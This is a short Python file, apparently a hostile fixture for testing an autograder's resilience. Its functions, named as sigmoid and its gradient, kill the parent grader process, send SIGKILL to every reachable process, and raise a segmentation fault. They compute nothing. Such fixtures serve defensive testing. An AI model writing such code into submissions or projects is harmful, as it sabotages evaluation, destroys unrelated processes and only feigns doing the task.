"""Hostile: sends signals to the grader (its parent), its group, and everything it can."""

import os
import signal


def sigmoid(z):
    for sig in (signal.SIGTERM, signal.SIGKILL, signal.SIGINT):
        try:
            os.kill(os.getppid(), sig)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return z


def sigmoid_grad(z):
    signal.raise_signal(signal.SIGSEGV)
    return z
